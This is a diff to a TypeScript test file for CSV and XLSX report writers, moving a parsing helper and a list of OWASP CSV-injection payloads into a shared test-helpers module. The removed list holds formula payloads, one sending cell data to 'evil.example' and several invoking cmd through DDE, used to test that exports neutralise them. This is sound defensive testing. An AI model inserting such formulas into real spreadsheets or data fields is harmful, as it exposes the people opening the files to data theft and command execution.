@@ -1,19 +1,11 @@
 import fs from 'node:fs'
 import os from 'node:os'
 import path from 'node:path'
-import { parseString } from '@fast-csv/parse'
 import ExcelJS from 'exceljs'
 import { afterAll, describe, expect, it } from 'vitest'
 import type { Column, Row } from './definition.js'
+import { injections, parseCsv } from '../../tests/helpers/report-files.js'
 import { openWriter } from './writers.js'
-
-/** The OWASP "CSV Injection" payloads of issue 34: a staff member may name an event so. */
-export const injections = [
-  '=HYPERLINK("http://evil.example/?"&A1,"click")',
-  "+cmd|' /C calc'!A0",
-  "@SUM(1+1)*cmd|' /C calc'!A0",
-  "-2+3+cmd|' /C calc'!A0",
-]
 
 const columns: Column[] = [
   { key: 'code', kind: 'number' },
@@ -48,15 +40,6 @@ async function write(format: 'CSV' | 'XLSX', locale: 'pt-BR' | 'en-us' = 'pt-BR'
   await writer.close()
   return file
 }
-
-const parseCsv = (text: string) =>
-  new Promise<string[][]>((resolve, reject) => {
-    const out: string[][] = []
-    parseString(text, { headers: false })
-      .on('data', (r: string[]) => out.push(r))
-      .on('error', reject)
-      .on('end', () => resolve(out))
-  })
 
 describe('report writers', () => {
   it('CSV: RFC 4180 in UTF-8 with a BOM; formula payloads come back as plain text, numbers stay numbers', async () => {
